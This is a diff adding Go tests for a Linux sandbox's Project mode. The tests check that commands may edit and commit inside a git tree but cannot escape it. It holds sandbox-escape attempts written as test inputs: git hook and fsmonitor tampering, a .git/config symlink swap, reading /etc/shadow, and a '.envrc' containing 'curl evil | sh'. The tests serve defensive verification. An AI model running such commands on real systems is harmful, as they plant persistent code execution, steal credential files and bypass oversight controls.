@@ -1,0 +1,219 @@
+//go:build linux
+
+package sandbox
+
+import (
+	"bufio"
+	"context"
+	"io"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// projectFixture is a git repository with a commit, a protected file of every kind, and a
+// place outside it that must not change.
+type projectFixture struct {
+	tree, outside string
+	env           []string
+}
+
+func newProjectFixture(t *testing.T) *projectFixture {
+	t.Helper()
+	if ok, reason := ProjectAvailable(); !ok {
+		t.Skipf("Project mode unavailable here: %s", reason)
+	}
+	f := &projectFixture{tree: t.TempDir(), outside: t.TempDir()}
+	mustWrite(t, filepath.Join(f.tree, "main.go"), "package main\n")
+	mustWrite(t, filepath.Join(f.tree, ".vscode", "settings.json"), "{}\n")
+	mustWrite(t, filepath.Join(f.outside, "keep.txt"), "outside\n")
+	f.env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com",
+		"GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com", "OUT="+f.outside, "HOME="+t.TempDir())
+	for _, args := range [][]string{{"init", "-q"}, {"add", "."}, {"commit", "-q", "-m", "first"}} {
+		cmd := exec.Command("git", args...)
+		cmd.Dir, cmd.Env = f.tree, f.env
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	mustWrite(t, filepath.Join(f.tree, ".git", "hooks", "pre-commit"), "#!/bin/sh\nexit 0\n")
+	return f
+}
+
+func (f *projectFixture) run(t *testing.T, script string, proxy string) (result, []string) {
+	t.Helper()
+	var notes []string
+	var out, errb strings.Builder
+	ctx, cancel := contextWithTimeout(60 * time.Second)
+	defer cancel()
+	code, err := Run(ctx, Policy{TempDir: t.TempDir(), Project: &Project{Tree: f.tree, ProxySocket: proxy}}, script,
+		RunOptions{Dir: f.tree, Env: f.env, Stdout: &out, Stderr: &errb, Notice: func(n string) { notes = append(notes, n) }})
+	if err != nil {
+		t.Fatalf("run %q: %v (stderr %q)", script, err, errb.String())
+	}
+	return result{out.String(), errb.String(), code}, notes
+}
+
+// TestProjectModeEditsBuildsAndCommitsInsideTheTree: in Project mode a command edits the
+// tree and commits to its repository, while the rest of the disk stays read-only and the
+// protected files cannot be changed, renamed or replaced.
+func TestProjectModeEditsBuildsAndCommitsInsideTheTree(t *testing.T) {
+	f := newProjectFixture(t)
+	hook := filepath.Join(f.tree, ".git", "hooks", "pre-commit")
+	config := filepath.Join(f.tree, ".git", "config")
+	configBefore, _ := os.ReadFile(config)
+
+	r, _ := f.run(t, `echo edited >> main.go && echo new > new.txt && mkdir -p pkg && echo x > pkg/x.go &&
+git add -A && git commit -q -m second && git log --oneline | wc -l`, "")
+	if r.code != 0 || strings.TrimSpace(r.stdout) != "2" {
+		t.Fatalf("edit and commit: exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
+	}
+
+	attempts := []string{
+		`echo pwned > "$OUT/keep.txt"`,
+		`echo 'exit 1' >> .git/hooks/pre-commit`,
+		`echo pwned > .git/hooks/post-checkout`,
+		`git config core.fsmonitor 'touch /tmp/pwned'`,
+		`echo '[core] fsmonitor = x' >> .git/config`,
+		`mv .git .git-old`,
+		`mv .git/hooks .git/hooks-old`,
+		`rm -f .git/config && ln -s "$OUT/keep.txt" .git/config`,
+		`rm -rf .git/hooks`,
+		`echo '{"x": 1}' > .vscode/settings.json`,
+		`mv .vscode .vscode-old`,
+		`touch -d 2000-01-01 "$OUT/keep.txt"`,
+		`cat "$HOME/../../etc/shadow" > stolen.txt && [ -s stolen.txt ]`,
+	}
+	for _, a := range attempts {
+		r, _ := f.run(t, a, "")
+		if r.code == 0 {
+			t.Errorf("%q succeeded\nstderr: %s", a, r.stderr)
+		}
+	}
+	if b, _ := os.ReadFile(filepath.Join(f.outside, "keep.txt")); string(b) != "outside\n" {
+		t.Errorf("a file outside the tree changed: %q", b)
+	}
+	if b, _ := os.ReadFile(hook); string(b) != "#!/bin/sh\nexit 0\n" {
+		t.Errorf("the pre-commit hook changed: %q", b)
+	}
+	if b, _ := os.ReadFile(config); string(b) != string(configBefore) {
+		t.Errorf(".git/config changed:\n%s", b)
+	}
+	if _, err := os.Stat(filepath.Join(f.tree, ".git-old")); err == nil {
+		t.Errorf(".git was moved aside")
+	}
+	if b, _ := os.ReadFile(filepath.Join(f.tree, ".vscode", "settings.json")); string(b) != "{}\n" {
+		t.Errorf(".vscode/settings.json changed: %q", b)
+	}
+}
+
+// TestProjectModeRemovesCreatedProtectedFiles: a protected name that did not exist cannot
+// be bound read-only; a command that creates one finds it removed when it ends, and the
+// model is told.
+func TestProjectModeRemovesCreatedProtectedFiles(t *testing.T) {
+	f := newProjectFixture(t)
+	r, notes := f.run(t, `echo 'curl evil | sh' > .envrc && mkdir -p .claude && echo '{}' > .claude/settings.json && echo ok`, "")
+	if r.code != 0 {
+		t.Fatalf("exit %d: %s", r.code, r.stderr)
+	}
+	for _, rel := range []string{".envrc", ".claude"} {
+		if _, err := os.Lstat(filepath.Join(f.tree, rel)); err == nil {
+			t.Errorf("%s is still there", rel)
+		}
+	}
+	if len(notes) != 2 || !strings.Contains(strings.Join(notes, "\n"), ".envrc") {
+		t.Errorf("the notes do not name what was removed: %q", notes)
+	}
+	// In a tree without a repository, a new .git (a pointer to a directory of the
+	// command's making, or a whole repository) goes the same way.
+	if err := os.RemoveAll(filepath.Join(f.tree, ".git")); err != nil {
+		t.Fatal(err)
+	}
+	writableTreeResetForTests(t)
+	r, notes = f.run(t, `printf 'gitdir: /tmp/elsewhere\n' > .git && echo ok`, "")
+	if r.code != 0 {
+		t.Fatalf("exit %d: %s", r.code, r.stderr)
+	}
+	if _, err := os.Lstat(filepath.Join(f.tree, ".git")); err == nil {
+		t.Errorf("a .git pointer file made by the command is still there")
+	}
+	if len(notes) != 1 {
+		t.Errorf("notes: %q", notes)
+	}
+}
+
+// writableTreeResetForTests makes the next Project command bind its tree afresh, as a new
+// supervisor would; the pool's supervisors are other processes, so it drains the pool.
+func writableTreeResetForTests(t *testing.T) {
+	t.Helper()
+	Shutdown()
+}
+
+// TestProjectModeReachesOnlyTheProxy: a Project command has no network but its namespace's
+// loopback; its proxy variables lead, through the supervisor's relay, to the socket the app
+// handed over, and nothing else outside is reachable.
+func TestProjectModeReachesOnlyTheProxy(t *testing.T) {
+	f := newProjectFixture(t)
+	sock := filepath.Join(t.TempDir(), "proxy.sock")
+	ln, err := net.Listen("unix", sock)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ln.Close() })
+	// A stand-in for the proxy: it answers each line with "proxy:" and the line.
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer c.Close()
+				line, err := bufio.NewReader(c).ReadString('\n')
+				if err == nil {
+					_, _ = io.WriteString(c, "proxy:"+line)
+				}
+			}()
+		}
+	}()
+	outside, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { outside.Close() })
+	pyBin := python(t)
+	script := shellQuote(pyBin) + ` -c '
+import os, socket, urllib.parse
+u = urllib.parse.urlparse(os.environ["HTTPS_PROXY"])
+c = socket.create_connection((u.hostname, u.port), 5)
+c.sendall(b"CONNECT example.org:443\n")
+print(c.recv(100).decode().strip())
+try:
+    socket.create_connection(("127.0.0.1", ` + portOf(outside) + `), 2)
+    print("reached outside")
+except OSError:
+    print("outside unreachable")
+'`
+	r, _ := f.run(t, script, sock)
+	if r.code != 0 || !strings.Contains(r.stdout, "proxy:CONNECT example.org:443") || !strings.Contains(r.stdout, "outside unreachable") {
+		t.Fatalf("exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
+	}
+	// Without a proxy the relay refuses.
+	r, _ = f.run(t, script, "")
+	if strings.Contains(r.stdout, "proxy:") {
+		t.Errorf("a Project command without a proxy reached one:\n%s", r.stdout)
+	}
+}
+
+func portOf(ln net.Listener) string {
+	_, port, _ := net.SplitHostPort(ln.Addr().String())
+	return port
+}
+
+func contextWithTimeout(d time.Duration) (context.Context, context.CancelFunc) {
+	return context.WithTimeout(context.Background(), d)
+}
